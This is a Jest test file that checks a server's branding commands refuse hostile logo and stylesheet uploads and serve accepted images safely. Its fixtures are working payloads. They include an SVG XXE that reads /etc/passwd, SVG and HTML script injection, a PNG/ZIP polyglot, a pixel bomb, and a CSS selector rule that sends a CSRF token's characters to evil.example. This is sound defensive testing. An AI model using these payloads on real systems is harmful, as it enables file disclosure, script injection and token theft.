/** A98: what an operator is given by somebody else (a logo, a theme) is refused at the door, and changes nothing. */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals'
import { png, pngChunk } from '../support/png.ts'
import { type Server, startServer } from '../support/server.ts'

const folder = mkdtempSync(join(tmpdir(), 'genkan-uploads-'))
const file = (name: string, content: string | Buffer) => {
  writeFileSync(join(folder, name), content)
  return join(folder, name)
}
const SVG = 'xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"'

let server: Server
let before = ''
const show = async () => (await server.run('brands', 'show', 'default', '--json')).stdout

beforeAll(async () => {
  // There a command is run by the server, which is quicker than starting all of it for each.
  server = await startServer({ stores: 'embedded' })
  await server.run('brands', 'set', 'default', '--name', 'House')
  before = await show()
})
afterAll(async () => {
  await server?.close()
  rmSync(folder, { recursive: true, force: true })
})

describe('A98: an upload', () => {
  it.each([
    [
      'an HTML page called PNG',
      'logo',
      '--light',
      file('a.png', '<html><script>alert(1)</script></html>'),
      'neither PNG nor SVG',
    ],
    ['a script in an SVG', 'logo', '--light', file('b.svg', `<svg ${SVG} onload="alert(1)"/>`), 'event handler onload'],
    [
      'an SVG that reads files',
      'logo',
      '--light',
      file('c.svg', `<?xml version="1.0"?><!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg ${SVG}/>`),
      'no use for',
    ],
    [
      'a PNG that is a ZIP too',
      'logo',
      '--dark',
      file('d.png', png({ end: Buffer.from('PK\x03\x04') })),
      'goes on after its end',
    ],
    [
      'a pixel bomb',
      'logo',
      '--dark',
      file('e.png', png({ width: 60_000, height: 60_000, raw: Buffer.alloc(9) })),
      'larger than 2048',
    ],
    [
      'a stylesheet that reads a form',
      'css',
      '--file',
      file('f.css', 'input[name=csrf][value^="a"] { background: url(https://evil.example/a) }'),
      'line 1',
    ],
  ])('%s is refused, and nothing changes', async (_name, command, option, path, reason) => {
    const result = await server.run('brands', command, 'default', option, path)
    expect(result.code).toBe(1)
    expect(result.stderr).toContain(reason)
    expect(await show()).toBe(before)
  })

  it('what hides in a picture that is taken is not served', async () => {
    const hidden = '<script>alert(1)</script>'
    const path = file('g.png', png({ before: [pngChunk('tEXt', Buffer.from(hidden))] }))
    expect(await server.run('brands', 'logo', 'default', '--light', path)).toMatchObject({ code: 0 })
    const page = await (await fetch(`${server.issuer}/no/page`, { headers: { accept: 'text/html' } })).text()
    const [, source = ''] = /<img class="logo" src="([^"]+)"/.exec(page) ?? []
    const answer = await fetch(`${server.issuer}${source}`)
    expect(Buffer.from(await answer.arrayBuffer())).toEqual(png())
    expect(answer.headers.get('Content-Type')).toBe('image/png')
    expect(answer.headers.get('X-Content-Type-Options')).toBe('nosniff')
    expect(answer.headers.get('Content-Security-Policy')).toContain('sandbox')
  })
})
